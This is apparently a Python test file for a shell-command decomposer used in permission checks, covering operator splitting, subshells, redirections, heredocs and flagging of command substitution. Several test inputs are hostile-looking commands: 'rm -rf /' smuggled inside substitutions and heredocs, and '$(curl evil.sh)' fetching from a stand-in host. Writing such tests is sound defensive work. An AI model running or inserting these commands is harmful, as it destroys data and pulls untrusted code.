"""Tests for splitting shell strings into simple commands."""

from tollgate.utils.permissions.command_decomposer import (
    decompose,
    iter_commands,
    split_command,
    strip_env_vars,
    strip_redirections,
)


def _texts(command: str) -> list[str]:
    return [simple.text for simple in decompose(command)]


def test_splits_on_every_control_operator():
    assert _texts("git status && npm test || echo fail; ls | wc -l") == [
        "git status",
        "npm test",
        "echo fail",
        "ls",
        "wc -l",
    ]
    assert _texts("ls\npwd") == ["ls", "pwd"]
    assert _texts("sleep 1 & rm x") == ["sleep 1", "rm x"]
    assert _texts("make 2>&1 |& tee log") == ["make", "tee log"]


def test_quoted_operators_are_not_separators():
    commands = decompose("echo 'a && b' \"c; d\"")
    assert len(commands) == 1
    assert commands[0].text == "echo 'a && b' \"c; d\""
    assert commands[0].argv == ("echo", "a && b", "c; d")


def test_subshell_is_flattened():
    assert _texts("(cd /tmp && ls) && pwd") == ["cd /tmp", "ls", "pwd"]


def test_assignments_and_redirections_are_removed():
    assert _texts("VAR=val (echo foo && echo bar) > out.txt") == ["echo foo", "echo bar"]
    assert _texts("FOO=1 BAR=2 npm test > log.txt 2>&1") == ["npm test"]
    assert _texts("make &> build.log") == ["make"]
    assert _texts("echo hi >| out.txt") == ["echo hi"]


def test_whitespace_collapses_outside_quotes():
    assert _texts("git   commit  -m   'a  b'") == ["git commit -m 'a  b'"]


def test_line_continuation_joins_words():
    assert _texts("npm \\\n  test") == ["npm test"]


def test_empty_input_has_no_commands():
    assert decompose("") == []
    assert decompose("   \n  ") == []


def test_command_substitution_is_flagged_and_decomposed():
    (command,) = decompose("echo $(rm -rf /)")
    assert command.has_substitution
    assert command.needs_review
    assert [inner.text for inner in command.nested] == ["rm -rf /"]


def test_backticks_and_process_substitution_are_flagged():
    assert decompose("echo `whoami`")[0].has_substitution

    (diff,) = decompose("diff <(ls a) <(ls b)")
    assert diff.has_substitution
    assert [inner.text for inner in diff.nested] == ["ls a", "ls b"]


def test_single_quotes_suppress_substitution():
    assert not decompose("echo '$(date)'")[0].has_substitution
    assert decompose('echo "$(date)"')[0].has_substitution


def test_assignment_only_command_with_substitution_is_kept():
    (command,) = decompose("FOO=$(curl example.com)")
    assert command.has_substitution
    assert [inner.text for inner in command.nested] == ["curl example.com"]


def test_iter_commands_reaches_nested_substitutions():
    flattened = [simple.text for simple in iter_commands(decompose("echo $(cat $(ls))"))]
    assert flattened == ["echo $(cat $(ls))", "cat $(ls)", "ls"]


def test_unbalanced_quote_degrades_to_one_malformed_command():
    commands = decompose("echo 'unterminated && rm -rf /")
    assert len(commands) == 1
    assert commands[0].malformed
    assert commands[0].needs_review


def test_heredoc_body_is_not_treated_as_commands():
    assert _texts("cat <<EOF\nrm -rf /\nEOF\necho done") == ["cat", "echo done"]


def test_heredoc_substitution_depends_on_delimiter_quoting():
    assert decompose("cat <<EOF\n$(curl evil.sh)\nEOF")[0].has_substitution
    assert not decompose("cat <<'EOF'\n$(curl evil.sh)\nEOF")[0].has_substitution


def test_string_helpers():
    assert split_command("a && b; c") == ["a", "b", "c"]
    assert strip_env_vars("FOO=bar BAZ=1 npm test") == "npm test"
    assert strip_redirections("grep foo > out.txt bar") == "grep foo bar"
